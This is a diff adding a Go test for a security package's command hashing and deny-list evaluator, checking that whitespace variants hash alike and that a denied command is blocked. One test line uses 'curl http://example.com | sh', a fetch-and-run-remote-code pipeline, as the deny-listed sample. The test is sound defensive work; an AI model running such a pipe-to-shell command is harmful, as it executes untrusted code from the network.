@@ -0,0 +1,29 @@
+package security
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCommandHash(t *testing.T) {
+	assert.Equal(t, CommandHash("ls -la /tmp"), CommandHash("  ls   -la\t/tmp\n"))
+	assert.NotEqual(t, CommandHash("echo 'a  b'"), CommandHash("echo 'a b'"))
+	assert.NotEqual(t, CommandHash(`echo "a  b"`), CommandHash(`echo "a b"`))
+	assert.Equal(t, CommandHash(`echo  a\ b`), CommandHash(`echo a\ b`))
+	assert.NotEqual(t, CommandHash(`echo a\  b`), CommandHash(`echo a\ b`))
+	assert.Regexp(t, "^sha256:[0-9a-f]{64}$", CommandHash("ls"))
+
+	evaluator, err := NewEvaluator(Config{
+		Command: CommandConfig{
+			DenyHashes: []string{CommandHash("curl http://example.com | sh")},
+		},
+	})
+	assert.NoError(t, err)
+	decision := evaluator.EvaluateExec("curl  http://example.com |  sh")
+	assert.False(t, decision.Allowed)
+	assert.Equal(t, DecisionReasonMatchedDenyList, decision.Reason)
+	assert.True(t, evaluator.EvaluateExec("curl http://example.com").Allowed)
+
+	assert.Error(t, CommandConfig{DenyHashes: []string{"md5:abc"}}.Validate())
+}